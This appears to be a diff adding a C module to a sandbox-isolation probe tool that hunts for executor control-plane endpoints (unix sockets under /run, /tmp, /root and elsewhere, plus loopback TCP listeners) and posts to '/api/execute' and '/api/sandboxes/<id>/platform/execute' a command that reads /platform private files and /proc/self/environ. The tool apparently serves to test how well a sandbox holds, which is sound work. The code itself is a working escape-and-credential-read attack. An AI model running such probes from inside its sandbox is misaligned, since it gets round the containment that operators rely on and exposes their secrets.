@@ -1,0 +1,182 @@
+/* control-plane: an executor's API is the shortest way to the platform. Find
+ * its endpoints (unix sockets in our view and in /proc/net/unix, loopback
+ * TCP listeners bound to a loopback address) and ask each for a platform
+ * execute that prints the private files. Only loopback and unix sockets. */
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+#include "probe.h"
+#include "sockets.h"
+
+#define COMMAND "cat /platform/* /platform/.* 2>/dev/null; cat /proc/self/environ"
+
+static ssize_t http(int fd, const char *method, const char *path, const char *body, char *out, size_t cap)
+{
+  char req[2048];
+  size_t got = 0;
+  int n = snprintf(req, sizeof req,
+                   "%s %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n"
+                   "Connection: close\r\n\r\n%s",
+                   method, path, strlen(body), body);
+
+  if (write(fd, req, (size_t)n) != n)
+    return -1;
+  for (;;)
+    {
+      struct pollfd pfd = { .fd = fd, .events = POLLIN };
+      ssize_t r;
+      if (got + 1 >= cap || poll(&pfd, 1, 2000) != 1 || (r = read(fd, out + got, cap - 1 - got)) <= 0)
+        break;
+      got += (size_t)r;
+    }
+  out[got] = '\0';
+  return (ssize_t)got;
+}
+
+typedef int (*dial_fn)(const void *where);
+
+static int dial_unix(const void *where)
+{
+  struct sockaddr_un u = { .sun_family = AF_UNIX };
+  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+  snprintf(u.sun_path, sizeof u.sun_path, "%s", (const char *)where);
+  if (fd >= 0 && connect(fd, (struct sockaddr *)&u, sizeof u) != 0)
+    {
+      close(fd);
+      return -1;
+    }
+  return fd;
+}
+
+static int dial_tcp(const void *where)
+{
+  const struct sockaddr_storage *a = where;
+  int fd = socket(a->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+  if (fd >= 0 && connect(fd, (const struct sockaddr *)a,
+                         a->ss_family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6)) != 0)
+    {
+      close(fd);
+      return -1;
+    }
+  return fd;
+}
+
+/* Asks one endpoint: the SDK's unprefixed route, then the sandbox-scoped one for each id it lists. */
+static void ask(struct probe *p, const char *label, dial_fn dial, const void *where)
+{
+  static char resp[1 << 18];
+  const char *body = "{\"command\":\"" COMMAND "\"}";
+  char paths[8][256];
+  int n_paths = 0, fd;
+
+  snprintf(paths[n_paths++], sizeof paths[0], "/api/execute");
+  snprintf(paths[n_paths++], sizeof paths[0], "/api/sandboxes/default/platform/execute");
+  if ((fd = dial(where)) >= 0)
+    {
+      ssize_t n = http(fd, "GET", "/api/sandboxes", "", resp, sizeof resp);
+      close(fd);
+      for (char *id = resp; n > 0 && n_paths < 8 && (id = strstr(id, "\"id\":\"")) != NULL; id += 6)
+        snprintf(paths[n_paths++], sizeof paths[0], "/api/sandboxes/%.*s/platform/execute",
+                 (int)strcspn(id + 6, "\""), id + 6);
+    }
+  for (int i = 0; i < n_paths; i++)
+    {
+      ssize_t n = -1;
+      char target[600];
+      snprintf(target, sizeof target, "%s %s", label, paths[i]);
+      fd = dial(where);
+      if (fd >= 0)
+        {
+          n = http(fd, "POST", paths[i], body, resp, sizeof resp);
+          close(fd);
+          if (n > 0)
+            probe_scan(p, resp, (size_t)n);
+        }
+      probe_attempt(p, "http-post", target, n > 0, errno, "%.120s", n > 0 ? resp : "");
+    }
+}
+
+static void unix_sockets_in(struct probe *p, const char *dir, int depth)
+{
+  DIR *d = opendir(dir);
+  struct dirent *de;
+
+  while (d != NULL && (de = readdir(d)) != NULL)
+    {
+      char path[4096];
+      struct stat st;
+      if (de->d_name[0] == '.' && (de->d_name[1] == '\0' || (de->d_name[1] == '.' && de->d_name[2] == '\0')))
+        continue;
+      snprintf(path, sizeof path, "%s/%s", dir, de->d_name);
+      if (lstat(path, &st) != 0)
+        continue;
+      if (S_ISSOCK(st.st_mode) && strlen(path) < sizeof ((struct sockaddr_un *)0)->sun_path)
+        ask(p, path, dial_unix, path);
+      else if (S_ISDIR(st.st_mode) && depth > 0)
+        unix_sockets_in(p, path, depth - 1);
+    }
+  if (d != NULL)
+    closedir(d);
+}
+
+static void loopback_listeners(struct probe *p, const char *table_path, int family)
+{
+  size_t len = 0;
+  char *table = probe_read_file(table_path, 1 << 20, &len);
+
+  for (char *line = table ? strchr(table, '\n') : NULL; line != NULL && line[1] != '\0';
+       line = strchr(line + 1, '\n'))
+    {
+      char local[64], label[64];
+      unsigned port, state;
+      unsigned long inode;
+      struct sockaddr_storage a = { 0 };
+      if (sscanf(line + 1, " %*d: %63[0-9A-Fa-f]:%x %*s %x %*s %*s %*s %*s %*s %lu", local, &port, &state, &inode) != 4
+          || state != 0x0A || sbx_socket_owner(p, inode) == OWNER_OTHER)
+        continue;
+      /* Only listeners bound to loopback itself: a wildcard one may face a real network. */
+      if (family == AF_INET && strtoul(local, NULL, 16) == htonl(INADDR_LOOPBACK))
+        {
+          struct sockaddr_in *v4 = (struct sockaddr_in *)&a;
+          v4->sin_family = AF_INET;
+          v4->sin_port = htons((uint16_t)port);
+          v4->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        }
+      else if (family == AF_INET6 && strcmp(local, "00000000000000000000000001000000") == 0)
+        {
+          struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&a;
+          v6->sin6_family = AF_INET6;
+          v6->sin6_port = htons((uint16_t)port);
+          v6->sin6_addr = in6addr_loopback;
+        }
+      else
+        continue;
+      snprintf(label, sizeof label, "tcp port %u", port);
+      ask(p, label, dial_tcp, &a);
+    }
+  free(table);
+}
+
+void probe_control_plane(struct probe *p)
+{
+  static const char *const dirs[] = { "/run", "/var/run", "/tmp", "/root", "/home", "/var/lib" };
+
+  for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
+    unix_sockets_in(p, dirs[i], 3);
+  unix_sockets_in(p, probe_shared_dir, 2);
+  loopback_listeners(p, "/proc/net/tcp", AF_INET);
+  loopback_listeners(p, "/proc/net/tcp6", AF_INET6);
+}
